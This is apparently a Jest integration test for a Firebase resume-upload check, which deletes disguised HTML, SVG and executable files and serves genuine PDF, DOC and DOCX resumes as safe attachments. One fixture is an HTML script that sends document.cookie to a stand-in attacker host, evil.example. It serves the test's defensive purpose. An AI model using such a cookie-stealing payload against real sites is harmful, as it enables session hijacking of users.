/**
 * The resume check as deployed, run by the Functions emulator against the
 * Firestore emulator and the Storage stand-in: a new application's resume is
 * judged by its bytes, whatever type and name its sender declared. HTML, an
 * SVG, an executable and a picture, declared as PDF or DOCX and named as the
 * sender liked, are deleted and their applications say why; a real PDF, DOC
 * and DOCX stay, served only as attachments named `resume-<reference>.<type>`
 * of their real type.
 *
 * The applications are created in a project of this suite's own, for which
 * the suite registers the emulator's triggers (testing/triggers.ts); its
 * files are in that project's default bucket of the stand-in. `npm test`
 * starts the emulators; without them the suite fails and says how to run it.
 * @jest-environment node
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { FieldValue } from 'firebase-admin/firestore';
import { resumeProblemTexts } from '@seawave/shared-data/server';
import { adminFirestore, clearProject, waitForDocument, waitUntil } from './testing/firestore';
import { listNames, uploadAs } from './testing/storage';
import { routeTriggersTo } from './testing/triggers';
import { emulatorHosts, emulatorsRunning } from './testing/emulators';

jest.setTimeout(120_000);

const { functions: functionsHost, firestore: firestoreHost, storage: storageHost } = emulatorHosts;
const projectId = 'demo-seawave-resumes';
const bucket = `${projectId}.appspot.com`;

const PDF = 'application/pdf';
const DOC = 'application/msword';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const fixture = (name: string) => new Uint8Array(readFileSync(join(__dirname, '../../e2e/fixtures', name)));
/** A Word 97-2003 document as far as its first bytes go: the OLE compound file header. */
const doc = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array<number>(1016).fill(0)]);

if (emulatorsRunning('the resume check in the Functions emulator', ['functions', 'firestore', 'storage'])) {
  const { db, close } = adminFirestore(projectId);
  const objectUrl = (path: string) => `http://${storageHost}/v0/b/${bucket}/o/${encodeURIComponent(path)}`;
  const owner = { Authorization: 'Bearer owner' };

  /**
   * A visitor's application as a script sends it: the file with the type and
   * the download name the script chose, then the applicant pointing at it.
   */
  async function apply(name: string, file: { bytes: Uint8Array; declared: string; as: string; served?: Parameters<typeof uploadAs>[6] }): Promise<{ id: string; path: string }> {
    const path = `resume/uid-${name}/1732240000000-a1b2c3d4e5f6-${file.as}`;
    const status = await uploadAs(storageHost!, bucket, path, file.bytes, file.declared, 'Bearer owner', { contentDisposition: `attachment; filename="${file.as}"`, ...file.served });
    expect(status).toBe(200);
    const ref = db.collection('applicants').doc();
    await ref.set({ name, email: `${name}@example.com`, number: '+44 20 7946 0000', position: 'Clerk', relocate: 'no', experience: '0-1', resumeURL: path, consent: true, createdAt: FieldValue.serverTimestamp() });
    return { id: ref.id, path };
  }

  describe('the resume check in the Functions emulator', () => {
    beforeAll(async () => {
      const keys = await routeTriggersTo(projectId, { functionsHost: functionsHost!, firestoreHost: firestoreHost! });
      expect(keys).toEqual(expect.arrayContaining([expect.stringMatching(/-onApplicationCreated-/)]));
    });
    beforeEach(async () => {
      await clearProject(firestoreHost!, projectId);
      await fetch(`http://${storageHost}/emulator/v1/buckets/${bucket}`, { method: 'DELETE', headers: owner });
    });
    afterAll(close);

    it('deletes a fake document and tells staff why', async () => {
      const sent = await Promise.all([
        apply('html', { bytes: new Uint8Array(Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>')), declared: PDF, as: 'cv.html' }),
        apply('svg', { bytes: fixture('script-svg.png'), declared: PDF, as: 'x.svg' }),
        apply('exe', { bytes: fixture('program.exe'), declared: DOCX, as: 'invoice.exe' }),
        apply('hta', { bytes: fixture('author.png'), declared: DOCX, as: 'cv.pdf.hta' }),
      ]);
      for (const { id } of sent) {
        const stored = await waitForDocument(db, `applicants/${id}`, (data) => typeof data?.resumeProblem === 'string');
        expect(stored).toMatchObject({ reference: expect.stringMatching(/^A-\d{4}-\d{6}$/), resumeProblem: 'content' });
      }
      // The reason is recorded before the file is deleted: the deletion may come a moment later.
      await waitUntil('the resume folder', () => listNames(storageHost!, bucket, 'resume/'), (names) => names.length === 0);
      expect(resumeProblemTexts.content).toBe('The resume was deleted: its content is not a PDF, DOC or DOCX document.');
    });

    it('keeps real documents, served as named attachments', async () => {
      const cases = [
        { name: 'pdf', file: { bytes: fixture('resume.pdf'), declared: PDF, as: 'cv.html' }, type: 'pdf', contentType: PDF },
        { name: 'doc', file: { bytes: doc, declared: DOC, as: 'cv.doc' }, type: 'doc', contentType: DOC },
        // Declared as a PDF, but a DOCX by its bytes: it is served as what it is.
        { name: 'docx', file: { bytes: fixture('resume.docx'), declared: PDF, as: 'x.svg' }, type: 'docx', contentType: DOCX },
      ];
      for (const { name, file, type, contentType } of cases) {
        const { id, path } = await apply(name, file);
        const reference = String((await waitForDocument(db, `applicants/${id}`, (data) => typeof data?.reference === 'string'))?.reference);
        const fileName = `resume-${reference}.${type}`;
        const deadline = Date.now() + 20_000;
        let metadata: Record<string, unknown> = {};
        while (Date.now() < deadline) {
          metadata = (await (await fetch(objectUrl(path), { headers: owner })).json()) as Record<string, unknown>;
          if (String(metadata.contentDisposition).includes(fileName)) break;
          await new Promise((resolve) => setTimeout(resolve, 150));
        }
        expect(metadata).toMatchObject({ contentType, contentDisposition: `attachment; filename="${fileName}"; filename*=UTF-8''${fileName}` });
        const media = await fetch(`${objectUrl(path)}?alt=media`, { headers: owner });
        expect(media.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${fileName.replace(/\./g, '\\.')}"`));
        expect(media.headers.get('content-type')).toBe(contentType);
        expect(media.headers.get('x-content-type-options')).toBe('nosniff');
        expect(Buffer.from(await media.arrayBuffer()).equals(Buffer.from(file.bytes))).toBe(true);
        expect((await db.doc(`applicants/${id}`).get()).get('resumeProblem')).toBeUndefined();
      }
      expect(await listNames(storageHost!, bucket, 'resume/')).toHaveLength(3);
    });

    it("serves a kept resume with the site's headers", async () => {
      const served = { cacheControl: 'public, max-age=86400', contentEncoding: 'gzip', contentLanguage: 'fr', metadata: { sender: 'script' } };
      const { id, path } = await apply('cached', { bytes: fixture('resume.pdf'), declared: PDF, as: 'cv.pdf', served });
      const reference = String((await waitForDocument(db, `applicants/${id}`, (data) => typeof data?.reference === 'string'))?.reference);
      const metadata = await waitUntil(
        'the resume named as a download',
        async () => (await (await fetch(objectUrl(path), { headers: owner })).json()) as Record<string, unknown>,
        (meta) => String(meta.contentDisposition).includes(`resume-${reference}.pdf`),
      );
      expect(metadata).toMatchObject({ cacheControl: 'private, no-store', contentEncoding: 'identity' });
      expect([metadata.contentLanguage, metadata.metadata]).toEqual([undefined, undefined]);
      // Staff download it signed in (an allow-listed, verified address).
      const staff = Buffer.from(JSON.stringify({ email: 'hr@seawave.example.com', email_verified: true, sub: 'hr', firebase: { sign_in_provider: 'google.com' } })).toString('base64url');
      const media = await fetch(`${objectUrl(path)}?alt=media`, { headers: { Authorization: `Firebase x.${staff}.y` } });
      expect(media.status).toBe(200);
      expect([media.headers.get('cache-control'), media.headers.get('content-encoding'), media.headers.get('content-language')]).toEqual(['private, no-store', null, null]);
      expect(Buffer.from(await media.arrayBuffer()).equals(Buffer.from(fixture('resume.pdf')))).toBe(true);
    });

    it('marks an application whose resume is missing', async () => {
      const ref = db.collection('applicants').doc();
      await ref.set({ name: 'Nobody', email: 'nobody@example.com', resumeURL: 'resume/uid-none/1-a-cv.pdf', createdAt: FieldValue.serverTimestamp() });
      expect(await waitForDocument(db, `applicants/${ref.id}`, (data) => typeof data?.resumeProblem === 'string')).toMatchObject({ resumeProblem: 'missing' });
    });
  });
}
